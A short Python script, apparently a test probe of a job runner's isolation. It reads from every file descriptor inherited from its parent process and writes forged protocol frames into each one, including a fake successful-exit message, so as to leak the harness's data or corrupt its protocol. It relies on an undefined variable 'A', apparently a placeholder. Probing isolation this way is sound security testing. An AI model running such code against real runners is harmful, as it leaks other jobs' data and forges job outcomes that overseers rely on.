# tries: to read from and to write to every open file that it got from the process before it
# success: the protocol is disturbed, or a frame of it is read
# seen by: the next job, the output
import os, struct

for fd in range(0, 256):
    try:
        kind = os.fstat(fd).st_mode
    except OSError:
        continue
    os.set_blocking(fd, False)
    try:
        got = os.read(fd, 1 << 20)
        print(fd, oct(kind), got[:200])
        if fd > 2 and got:
            print("did-" + A["id"])
    except OSError as e:
        print(fd, oct(kind), e.errno)
    for frame in (b"\0" * 64, struct.pack(">I", 2) + b"{}", struct.pack("<I", 1 << 30), b'{"status":"exit","code":0}\n'):
        try:
            os.write(fd, frame)
        except OSError:
            pass
